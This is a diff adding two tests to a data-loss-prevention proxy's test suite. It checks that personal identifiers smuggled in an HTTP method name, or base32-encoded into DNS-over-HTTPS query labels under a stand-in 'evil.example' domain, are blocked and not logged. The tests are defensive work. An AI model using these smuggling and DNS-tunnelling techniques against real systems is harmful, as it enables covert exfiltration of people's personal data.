@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import json
 import socket
 import ssl
@@ -140,6 +141,41 @@ def test_a_leak_is_stopped_whatever_the_method_is_called(
 
     assert answer.status == 403
     assert not http.records.of(f"/{name}")
+
+
+@pytest.mark.parametrize("secure", [False, True])
+def test_a_method_that_says_who_somebody_is_is_refused_and_not_written_down(
+    proxy: Proxy, http: HttpServer, https: HttpsServer, name: str, nirs: list[str], *, secure: bool
+) -> None:
+    url = f"{https.url if secure else http.url}/{name}"
+    args = ("-X", f"PUT{nirs[0]}", "-T", "{file}", "--cacert", str(proxy.ca))
+
+    answer = curl(url, *args, proxy=proxy.listen, send=b"x" * 100_000)
+
+    assert answer.status == 503
+    assert not (https if secure else http).records.of(f"/{name}")
+    shown = proxy.dlp("incident", "show", answer.incident, "--json").stdout
+    assert json.loads(shown)["rule"] == "fail-closed:method"
+    assert nirs[0] not in shown + "".join(proxy.logs)
+
+
+def test_a_question_of_dns_over_https_that_spells_identifiers_is_stopped(
+    proxy: Proxy, https: HttpsServer, name: str, nirs: list[str]
+) -> None:
+    spelled = base64.b32encode(f"{nirs[0]};{nirs[1]}".encode()).decode().rstrip("=").lower()
+    labels = (spelled[:25], spelled[25:], "evil", "example")
+    question = b"".join(bytes([len(one)]) + one.encode() for one in labels) + b"\0\0\x10\0\x01"
+    query = b"\0\0\1\0\0\1\0\0\0\0\0\0" + question
+    packed = base64.urlsafe_b64encode(query).decode().rstrip("=")
+    kind = ("-H", "Content-Type: application/dns-message", "--cacert", str(proxy.ca))
+
+    got = curl(f"{https.url}/{name}?dns={packed}", *kind[2:], proxy=proxy.listen)
+    posted = curl(
+        f"{https.url}/{name}", *kind, "--data-binary", "@{file}", proxy=proxy.listen, send=query
+    )
+
+    assert (got.status, posted.status) == (403, 403)
+    assert not https.records.of(f"/{name}")
 
 
 def test_a_connection_can_be_used_again_after_a_stop(
